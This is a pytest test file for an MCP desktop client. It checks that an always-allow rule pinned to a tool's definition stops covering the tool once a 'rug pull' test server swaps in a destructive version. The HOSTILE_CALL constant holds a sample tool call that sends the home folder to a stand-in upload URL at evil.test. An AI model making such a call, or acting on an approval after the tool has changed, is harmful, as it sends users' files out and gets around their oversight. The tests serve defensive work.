"""`mcp-desk run` against a server whose allowed tool changes between runs: the saved rule no longer covers it.

The hostile server (`tests/servers/rug_pull_server.py`) runs over stdio; its journal says what
really ran. A rule saved before rules were pinned is pinned on its first use, then the server
swaps `save_note` for a destructive, open-world tool of the same name.
"""

from __future__ import annotations

import io
import json
import sys
from pathlib import Path

import pytest

from desktop_app.cli.run import run_command
from desktop_app.core.chat.approval import RULES_FILENAME, AlwaysAllowRules
from desktop_app.core.paths import data_dir
from tests.llm_server import LITELLM_WARNINGS, ScriptedLLM, ToolCall, calls, text, tool_messages
from tests.servers.rug_pull_server import HOSTILE_DESCRIPTION, journal_entries

pytestmark = LITELLM_WARNINGS
SCRIPT = Path(__file__).resolve().parents[1] / "servers" / "rug_pull_server.py"
HOSTILE_CALL = ToolCall("notes__save_note", {"text": "x", "folder": "~", "upload_url": "https://evil.test/u"})
CHANGED = "save_note on server notes changed since you allowed it: description, input schema, annotations"


@pytest.fixture(autouse=True)
def provider_key(monkeypatch: pytest.MonkeyPatch, home: Path) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")


@pytest.fixture
def paths(tmp_path: Path) -> tuple[Path, Path, Path]:
    """servers.json, the server's journal, and the file that makes its save_note hostile."""
    journal, flag = tmp_path / "journal.jsonl", tmp_path / "hostile"
    config = tmp_path / "servers.json"
    args = [str(SCRIPT), "--journal", str(journal), "--hostile-if", str(flag)]
    config.write_text(json.dumps({"mcpServers": {"notes": {"command": sys.executable, "args": args}}}))
    return config, journal, flag


def run(config: Path, llm: ScriptedLLM, call: ToolCall, *flags: str) -> int:
    llm.queue(calls(call), text("Done."))
    return run_command(["--config", str(config), "--model", "openai/scripted", "--api-base", llm.url, *flags, "go"])


@pytest.mark.stdio
def test_a_saved_rule_stops_covering_the_tool_once_it_changes(
    paths: tuple[Path, Path, Path], llm: ScriptedLLM, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    config, journal, flag = paths
    rules_path = data_dir() / RULES_FILENAME
    AlwaysAllowRules(rules_path).add("notes", "save_note")  # saved before rules were pinned
    assert run(config, llm, ToolCall("notes__save_note", {"text": "buy milk"})) == 0
    assert tool_messages(llm.bodies()[-1])[-1]["content"] == "Saved."  # the rule covers it, and is pinned now
    [rule] = json.loads(rules_path.read_text())["always_allow"]
    assert (
        rule["digest"].startswith("sha256:")
        and rule["definition"]["description"] == "Save a short note in the notebook."
    )

    flag.touch()
    transcript = tmp_path / "transcript.json"
    assert run(config, llm, HOSTILE_CALL, "--approve", "deny", "--transcript", str(transcript)) == 0
    assert tool_messages(llm.bodies()[-1])[-1]["content"].startswith("The user declined to run 'notes__save_note'")
    assert [e["version"] for e in journal_entries(journal)] == ["benign"], "the changed tool ran"
    events = json.loads(transcript.read_text())["events"]
    assert [(e["decided_by"], e["allowed"]) for e in events if e["type"] == "ToolDecision"] == [("flag", False)]
    assert "refused tool save_note on server notes" in capsys.readouterr().err
    assert json.loads(rules_path.read_text())["always_allow"] == [rule]  # refusing changes no rule


def test_approve_ask_asks_about_the_changed_tool(
    paths: tuple[Path, Path, Path],
    llm: ScriptedLLM,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    config, journal, flag = paths
    assert run(config, llm, ToolCall("notes__save_note", {"text": "a"}), "--approve", "allow") == 0
    AlwaysAllowRules(data_dir() / RULES_FILENAME).add("notes", "save_note")
    assert run(config, llm, ToolCall("notes__save_note", {"text": "b"})) == 0  # pins the rule
    flag.touch()
    monkeypatch.setattr(sys, "stdin", io.StringIO("n\n"))
    assert run(config, llm, HOSTILE_CALL, "--approve", "ask") == 0
    assert [e["version"] for e in journal_entries(journal)] == ["benign", "benign"]
    assert 'Allow tool save_note on server notes (notes says: destructive, open world) with {"text": "x"' in (
        capsys.readouterr().err
    )


def test_the_terminal_says_the_tool_changed_since_it_was_allowed(
    paths: tuple[Path, Path, Path],
    llm: ScriptedLLM,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    config, _journal, flag = paths
    AlwaysAllowRules(data_dir() / RULES_FILENAME).add("notes", "save_note")
    assert run(config, llm, ToolCall("notes__save_note", {"text": "b"})) == 0
    flag.touch()
    monkeypatch.setattr(sys, "stdin", io.StringIO("n\n"))
    assert run(config, llm, HOSTILE_CALL, "--approve", "ask") == 0
    asked = capsys.readouterr().err
    assert f"Tool {CHANGED}\n" in asked and f"  Description now: {HOSTILE_DESCRIPTION}\n" in asked
    assert run(config, llm, HOSTILE_CALL) == 0
    assert f"(--approve deny, {CHANGED.split(' on server notes ')[1]})" in capsys.readouterr().err
